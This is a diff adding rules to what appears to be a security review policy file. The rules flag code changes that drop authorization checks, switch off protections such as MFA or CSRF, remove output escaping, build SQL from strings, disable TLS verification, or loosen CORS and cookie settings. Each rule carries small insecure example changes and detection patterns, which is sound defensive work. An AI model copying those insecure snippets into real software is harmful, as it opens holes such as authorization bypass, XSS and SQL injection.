+          near: { pattern: '(?:\b(?:func|def|function|fn|fun|bool|boolean|Bool|Boolean|public|static|const|export)\b.{0,60})${guard-name}', within: 5 }
+        - all:
+            - removed: '^\s*(?:return|raise|throw|abort|redirect\w*)\b.{0,80}(?i:err|deny|denied|false|forbid|unauthori[sz]|40[13])'
+            - added: '^\s*return\s+(?:nil|null|None)\s*;?\s*$'
+              near: { pattern: '(?:\b(?:func|def|function|fn|fun|bool|boolean|Bool|Boolean|public|static|const|export)\b.{0,60})${guard-name}', within: 5 }
+    unless: [{ label: demonstration }, { label: test-source }]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-285, security-control]
+    monotone: false
+    examples:
+      match:
+        - { path: src/guard.ts, base: "export function canEdit(u) {\n  return u.id === o;\n}\n", head: "export function canEdit(u) {\n  return true;\n}\n" }
+        - { path: src/guard.go, base: "func Authorize(u User) error {\n\treturn errDenied\n}\n", head: "func Authorize(u User) error {\n\treturn nil\n}\n" }
+      no_match:
+        - { path: src/guard.ts, base: "export function total(u) {\n  return u.id === o;\n}\n", head: "export function total(u) {\n  return true;\n}\n" }
+        - { path: src/guard.ts, base: "export function canEdit(u) {\n  return u.id === o;\n}\n", head: "export function canEdit(u) {\n  return u.id === p;\n}\n" }
+        - { path: src/guard.go, base: "func Authorize(u User) error {\n\treturn x\n}\n", head: "func Authorize(u User) error {\n\treturn nil\n}\n" }
+        - { path: src/guard.go, base: "func Authorize(u User) error {\n\treturn errDenied\n}\n", head: "func Authorize(u User) error {\n\treturn errAway\n}\n" }
+        - { path: src/guard.go, base: "func Total(u User) error {\n\treturn errDenied\n}\n", head: "func Total(u User) error {\n\treturn nil\n}\n" }
+        - { path: vendor/guard.ts, base: "export function canEdit(u) {\n  return u.id === o;\n}\n", head: "export function canEdit(u) {\n  return true;\n}\n" }
+        - { path: notes.txt, base: "export function canEdit(u) {\n  return u.id === o;\n}\n", head: "export function canEdit(u) {\n  return true;\n}\n" }
+        - { path: examples/guard.ts, base: "export function canEdit(u) {\n  return u.id === o;\n}\n", head: "export function canEdit(u) {\n  return true;\n}\n" }
+        - { path: Ledger.Tests/guard.ts, base: "export function canEdit(u) {\n  return u.id === o;\n}\n", head: "export function canEdit(u) {\n  return true;\n}\n" }
+
+  - id: security.control-switched-off
+    summary: A protection is switched off by its setting
+    tier: high
+    when:
+      replaced:
+        from: '(?i)(?<key>\b\w{0,40}(?:mfa|2fa|two_?factor|totp|captcha|csrf|xss|auth(?:entication|orization)?|signed|signature|verif(?:y|ication)|encrypt\w{0,6}|https|ssl|tls|secure|hsts|audit\w{0,4}|sandbox\w{0,3}|firewall|waf|rate_?limit\w{0,4}|throttl\w{0,3}|lockout|http_?only|escape|saniti[sz]e|protect\w{0,4}|isolation|hardening|integrity|approval)\w{0,30})["'']?\s*(?::=|[:=])\s*["'']?(?:true|yes|on|enabled|enforced?|required|strict)\b'
+        to: '(?i)(?<key>\b\w{0,40}(?:mfa|2fa|two_?factor|totp|captcha|csrf|xss|auth(?:entication|orization)?|signed|signature|verif(?:y|ication)|encrypt\w{0,6}|https|ssl|tls|secure|hsts|audit\w{0,4}|sandbox\w{0,3}|firewall|waf|rate_?limit\w{0,4}|throttl\w{0,3}|lockout|http_?only|escape|saniti[sz]e|protect\w{0,4}|isolation|hardening|integrity|approval)\w{0,30})["'']?\s*(?::=|[:=])\s*["'']?(?:false|no|off|disabled|none|optional)\b'
+    unless: [{ label: demonstration }, { label: test-source }, { label: markup }]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-693, security-control]
+    examples:
+      match: [{ path: config/auth.yml, removed: "mfa_required: true", added: "mfa_required: false" }]
+      no_match:
+        - { path: config/auth.yml, removed: "mfa_required: false", added: "mfa_required: true" }
+        - { path: GUIDE.md, removed: "mfa_required: true", added: "mfa_required: false" }
+        - { path: docs/auth.yml, removed: "mfa_required: true", added: "mfa_required: false" }
+        - { path: a_test.go, removed: "mfa := true", added: "mfa := false" }
+        - { path: Ledger.Tests/a.cs, removed: "mfa = true", added: "mfa = false" }
+
+  - id: security.guard-dropped
+    summary: A route or action is no longer behind its check
+    tier: high
+    when:
+      any: [{ label: code }, { path: '(?i)\.(graphqls?|gql)$' }]
+      not: { path: '(?i)\.(tsx|jsx|vue|svelte)$|(^|/)(vendor|third_party|node_modules)/' }
+      net_removed:
+        - '(?i)\bDepends\(\s*(get_current|require|verify|auth|check)\w*|\bmiddleware\([^)]{0,60}["''](auth|admin|can|role|permission|verified)\b|@auth\b|@(authenticated|requires_(auth|role|scope|permission|admin)\w*|admin_only|owner_only|login_required|permission_required)\b|\b(PermissionRequired|LoginRequired|UserPassesTest|AccessMixin)\w*|\bpipe_through\b.{0,80}(auth|admin|require)|\bplug\s+:?(require|ensure|auth|verify)\w*'
+        - '[.(,\[\s](?:mw|middleware|auth|guard|acl|authz)?\.?(?:[rR]equire|[eE]nsure|[mM]ust)_?(?:[aA]dmin|[aA]uth|[lL]og(?:ged)?_?[iI]n|[oO]wner|[rR]ole|[pP]ermission|[sS]cope|[sS]ession|[uU]ser|[mM][fF][aA]|[sS]taff|[sS]igned)\w*\s*[,()\]]'
+        - '\breset_session\b|\bsession_regenerate_id\(|\.regenerate\(|\brotate_session\b|\burl_has_allowed_host_and_scheme\(|\bis_safe_url\(|\bconstructEvent\(|\bvalidate_(?:nonce|state|origin|signature)\w*\(|\b[vV]erify(?:Signature|Sig|Checksum|Hash|Digest|Webhook|State|Nonce|Token)?\(\s*\w*(?:[sS]ig|[sS]ignature|[tT]oken|[hH]ash|[dD]igest)\w*\b|\bcosign\s+verify\b|\bgpg\s+--verify\b|\bsha(?:256|512)sum\s+(?:-c|--check)\b|\bslsa-verifier\b'
+        - '(?i)\bpassword_validation\.\w+Validator\b|\bvalidates?\s+:password\b|\bzxcvbn\b|\bauthori[sz]e[!(\s]\s*[@:(]?\w'
+    unless: [{ status: deleted }, { change: comments }, { label: demonstration }, { label: test-source }]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-862, security-control]
+    monotone: false
+    examples:
+      match:
+        - { path: a.graphql, removed: "  wipe: Boolean @auth(requires: ADMIN)", added: "  wipe: Boolean" }
+        - { path: app/b.py, removed: "@authenticated", added: "x" }
+        - { path: app/api.py, removed: "@router.delete(\"/u\", dependencies=[Depends(require_admin)])", added: "@router.delete(\"/u\")" }
+        - { path: src/routes.js, removed: "router.post('/pay', requireAuth, pay);", added: "router.post('/pay', pay);" }
+        - { path: src/session.rb, removed: "    reset_session", added: "    x" }
+        - { path: app/settings.py, removed: "    {\"NAME\": \"a.password_validation.MinimumLengthValidator\"},", added: "    x" }
+      no_match:
+        - { path: src/routes.js, removed: "router.post('/pay', requireAuth, pay);", added: "router.put('/pay', requireAuth, pay);" }
+        - { path: web/routes.tsx, removed: "router.post('/pay', requireAuth, pay);" }
+        - { path: notes.txt, removed: "router.post('/pay', requireAuth, pay);" }
+        - { path: examples/routes.js, removed: "router.post('/pay', requireAuth, pay);" }
+        - { path: Ledger.Tests/routes.js, removed: "router.post('/pay', requireAuth, pay);" }
+        - { path: src/session.rb, status: deleted, removed: "    reset_session" }
+        - { path: src/session.rb, base: "a = 1\n# reset_session\nb = 2\n", head: "a = 1\n# x\nb = 2\n" }
+
+  - id: security.escaping-off
+    summary: Text from elsewhere is no longer escaped, or put together with code
+    tier: high
+    when:
+      any:
+        # A page that showed the text and now shows what the text says
+        - replaced:
+            from: ['\{\{\s*(?<key>[\w.]+)\s*\}\}', '<%=\s*(?<key>[\w.@]+)\s*%>']
+            to: ['\{\{\s*(?<key>[\w.]+)\s*\|\s*safe\b', '\{!!\s*\$?(?<key>[\w.]+)', '\{\{\{\s*(?<key>[\w.]+)', '<%=\s*raw[\s(]+(?<key>[\w.@]+)', '<%==\s*(?<key>[\w.@]+)', '<%=\s*(?<key>[\w.@]+)\.html_safe']
+          path: '(?i)\.(html?|erb|jinja2?|j2|twig|ejs|hbs|mustache|php|tmpl|gohtml|liquid|vue|svelte)$'
+        - label: code
+          added: '\bdangerouslySetInnerHTML=\{\{\s*__html:\s*(?:props|this\.props|data|\w*(?:[iI]nput|[cC]omment|[mM]essage|[bB]ody|[tT]ext|[hH]tml|[cC]ontent))\b'
+          removed: '\{\s*(?:props|this\.props|data|\w+)(?:\.\w+)*\s*\}'
+        # A statement with places for values that becomes one put together from text
+        - label: code
+          replaced:
+            from: '(?i)\b(?<key>(?:FROM|INTO|UPDATE)\s+\w+)\b.{0,200}(?:%s|\?|\$\d|:\w+|@\w+).{0,60}["''`]\s*,'
+            to: '(?i)\b(?<key>(?:FROM|INTO|UPDATE)\s+\w+)\b(?!.{0,300}(?:\bargs\b|Join\(|placeholder)).{0,200}(?:\$\{|#\{|\{\w+\}|["'']\s*\+\s*[A-Za-z(]|["'']\s*\.\s*\$|["'']\s*%\s*\(?\w)'
+        - label: code
+          added: '\.permit!|\$guarded\s*=\s*\[\s*\]|\bObject\.assign\(\s*\w{1,30},\s*req\.body\s*\)|\bfields\s*=\s*["'']__all__["'']'
+          removed: '\S'
+    unless: [{ label: demonstration }, { label: test-source }, { change: [comments, whitespace] }]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-79, CWE-89, CWE-915]
+    examples:
+      match:
+        - { path: templates/a.html, removed: "<p>{{ comment }}</p>", added: "<p>{{ comment|safe }}</p>" }
+        - { path: app/a.html.erb, removed: "<%= comment.body %>", added: "<%= raw comment.body %>" }
+        - { path: app/b.html.erb, removed: "<%= comment.body %>", added: "<%== comment.body %>" }
+        - { path: app/c.html.erb, removed: "<%= comment.body %>", added: "<%= comment.body.html_safe %>" }
+        - { path: app/a.hbs, removed: "{{ comment }}", added: "{{{ comment }}}" }
+        - { path: app/a.php, removed: "{{ comment }}", added: "{!! comment !!}" }
+        - { path: src/C.jsx, removed: "<p>{props.text}</p>", added: "<p dangerouslySetInnerHTML={{ __html: props.text }} />" }
+        - { path: src/a.py, removed: "c.execute(\"SELECT a FROM b WHERE c = %s\", (d,))", added: "c.execute(\"SELECT a FROM b WHERE c = '%s'\" % d)" }
+        - { path: src/a.rb, removed: "params.permit(:a)", added: "params.permit!" }
+      no_match:
+        - { path: templates/a.html, removed: "<p>{{ comment|safe }}</p>", added: "<p>{{ comment }}</p>" }
+        - { path: notes.txt, removed: "<p>{{ comment }}</p>", added: "<p>{{ comment|safe }}</p>" }
+        - { path: src/C.jsx, removed: "x", added: "<p dangerouslySetInnerHTML={{ __html: props.text }} />" }
+        - { path: src/C.jsx, removed: "<p>{props.text}</p>", added: "<p>{props.body}</p>" }
+        - { path: notes.txt, removed: "<p>{props.text}</p>", added: "<p dangerouslySetInnerHTML={{ __html: props.text }} />" }
+        - { path: src/a.py, removed: "c.execute(\"SELECT a FROM b WHERE c = %s\", (d,))", added: "c.execute(\"SELECT a FROM b WHERE e = %s\", (d,))" }
+        - { path: src/a.py, removed: "c.execute(\"SELECT a FROM z WHERE c = %s\", (d,))", added: "c.execute(\"SELECT a FROM b WHERE c = '%s'\" % d)" }
+        - { path: notes.txt, removed: "c.execute(\"SELECT a FROM b WHERE c = %s\", (d,))", added: "c.execute(\"SELECT a FROM b WHERE c = '%s'\" % d)" }
+        - { path: src/a.rb, added: "params.permit!" }
+        - { path: notes.txt, removed: "params.permit(:a)", added: "params.permit!" }
+        - { path: src/a.rb, removed: "params.permit(:a)", added: "params.permit(:b)" }
+        - { path: examples/a.rb, removed: "params.permit(:a)", added: "params.permit!" }
+        - { path: Ledger.Tests/a.rb, removed: "params.permit(:a)", added: "params.permit!" }
+        - { path: src/a.rb, base: "a = 1\n# old\nb = 2\n", head: "a = 1\n# params.permit!\nb = 2\n" }
+        - { path: src/a.rb, base: "params.permit!\n", head: "params.permit! \n" }
 
 """##########
         ),
@@ -5266,8 +5520,8 @@ rules:
         - '\bverify(_ssl|_tls|_certs?)?\s*=\s*False\b|\b(_create_unverified_context|CERT_NONE|VERIFY_NONE|SSL_VERIFY_NONE)\b|\bcheck_hostname\s*=\s*False\b'
         - '\bCURLOPT_SSL_VERIFY(PEER|HOST)\b.{0,20}(=>|,)\s*(0|false)\b|\bdanger_accept_invalid_(certs|hostnames)\s*\(\s*true|\b(ALLOW_ALL_HOSTNAME_VERIFIER|NoopHostnameVerifier|TrustAllStrategy|InsecureTrustManagerFactory|DangerousAcceptAnyServerCertificateValidator)\b'
         - '(?i)\bcurl\b[^|;#]{0,200}\s(-[a-z]{0,6}k|--insecure)\b|\bwget\b[^|;#]{0,200}--no-check-certificate\b|\bhttp\.sslVerify["'']?[= ]\s*["'']?(false|0)\b|\bGIT_SSL_NO_VERIFY\b|\bStrictHostKeyChecking["'']?[= ]\s*["'']?(no|off)\b|--insecure-skip-tls-verify\b|\binsecureSkipTLSVerify\s*:\s*true|\bhost_key_checking\s*=\s*false|\bvalidate_certs["'']?\s*[:=]\s*["'']?(no|false)\b'
-        - '\bcheck(Server|Client)Trusted\s*\([^)]{0,120}\)\s*(throws\s+\w+\s*)?\{\s*(return;?\s*)?\}|\b(set(Default)?)?[hH]ostnameVerifier\s*\(\s*(new\s+\w+\(\)\s*\{|\(?\s*\w+\s*,\s*\w+\s*\)?\s*->\s*true|\{\s*_\s*,\s*_\s*->\s*true)|\b\w*Certificate\w*Callback\b\s*(\+?=|:)\s*.{0,80}(=>\s*true|return\s+true|\btrue\b)|\bbadCertificateCallback\b.{0,80}(=>\s*true|return\s+true)|\bverify\s*:\s*:?verify_none\b|\bverify_hostname\s*=>\s*0|\bcheckServerIdentity\s*:\s*\([^)]{0,40}\)\s*=>|\bURLCredential\(trust:|\bset_certificate_verifier\b|\bwith_custom_certificate_verifier\b|\bInsecureChannelCredentials\b'
-        - '(?i)\bsslmode\s*=\s*disable\b|\bssl-?mode\s*=\s*disabled\b|\btrustServerCertificate\s*=\s*true\b|\buseSSL\s*=\s*false\b|\ballowInvalid(Certificates|Hostnames)\s*[=:]\s*true\b|\btlsInsecure\s*[=:]\s*true\b|\bssl_verify\s*[=:]\s*(false|0|"?none)|\bproxy_ssl_verify\s+off\b|\bcurl_easy_setopt\([^)]{0,60}SSL_VERIFY(PEER|HOST)\s*,\s*0'
+        - '\bcheck(Server|Client)Trusted\s*\([^)]{0,120}\)\s*(throws\s+\w+\s*)?\{\s*(return;?\s*)?\}|\b(set(Default)?)?[hH]ostnameVerifier\s*[({]\s*\{?\s*(new\s+\w+\(\)\s*\{|\(?\s*\w+\s*,\s*\w+\s*\)?\s*->\s*true)|\b\w*Certificate\w*Callback\b\s*(\+?=|:)\s*.{0,80}(=>\s*true|return\s+true|\btrue\b)|\bbadCertificateCallback\b.{0,80}(=>\s*true|return\s+true)|\bverify\s*:\s*:?verify_none\b|\bverify_hostname\s*=>\s*0|\bcheckServerIdentity\s*:\s*\([^)]{0,40}\)\s*=>|\bURLCredential\(trust:|\bset_certificate_verifier\b|\bwith_custom_certificate_verifier\b|\bInsecureChannelCredentials\b'
+        - '(?i)\bsslmode["'']?\s*[=:]\s*["'']?disable\b|\bgrpc\.WithInsecure\(\)|\bssl-?mode\s*=\s*disabled\b|\btrustServerCertificate\s*=\s*true\b|\buseSSL\s*=\s*false\b|\ballowInvalid(Certificates|Hostnames)\s*[=:]\s*true\b|\btlsInsecure\s*[=:]\s*true\b|\bssl_verify\s*[=:]\s*(false|0|"?none)|\bproxy_ssl_verify\s+off\b|\bcurl_easy_setopt\([^)]{0,60}SSL_VERIFY(PEER|HOST)\s*,\s*0'
         - '\b(NSAllowsArbitraryLoads|usesCleartextTraffic\s*=\s*"true"|cleartextTrafficPermitted\s*=\s*"true")'
     unless: [{ change: [comments, whitespace] }, { label: demonstration }, { label: markup }]
     reviewers: [{ team: security, count: 1 }]
@@ -5332,7 +5586,7 @@ rules:
     summary: A protection that browsers enforce is loosened
     tier: high
     when:
-      added: '(?i)\bAccess-Control-Allow-Origin["'']?\s*[:,=]\s*["'']?\*|["'']unsafe-(eval|inline)["'']|\b(cors|allow_?origins?|AllowedOrigins?)["'']?\s*[:=(]\s*\[?\s*["'']\*["'']|\b(contentSecurityPolicy|frameguard|hsts|xssFilter)\s*:\s*false\b|\bAllowAnyOrigin\(\)|\bX-Frame-Options["'']?\s*[:,]\s*["'']?ALLOWALL'
+      added: '(?i)\bAccess-Control-Allow-Origin["'']?\s*[:,=]\s*["'']?\*|["'']unsafe-(eval|inline)["'']|\b(cors|allow_?origins?|AllowedOrigins?)["'']?\s*[:=(]\s*\[?\s*["'']\*["'']|\b(contentSecurityPolicy|frameguard|hsts|xssFilter)\s*:\s*false\b|\b(cors|origin)\b.{0,40}\borigin\s*:\s*(true|\(\w+,\s*\w+\)\s*=>\s*\w+\(null,\s*true)|\bCSRF_TRUSTED_ORIGINS\s*=.{0,60}https?://\*|\bhttpOnly\s*:\s*false\b|\bcookie.{0,80}\bsecure\s*:\s*false\b|\bsame_?site\s*[:=]\s*["'']none|\bAllowAnyOrigin\(\)|\bX-Frame-Options["'']?\s*[:,]\s*["'']?ALLOWALL'
       except: '^\s*(//|#|\*|<!--)'
     unless: [{ change: [comments, whitespace] }, { label: demonstration }, { label: markup }, { label: test-source }]
     reviewers: [{ team: security, count: 1 }]
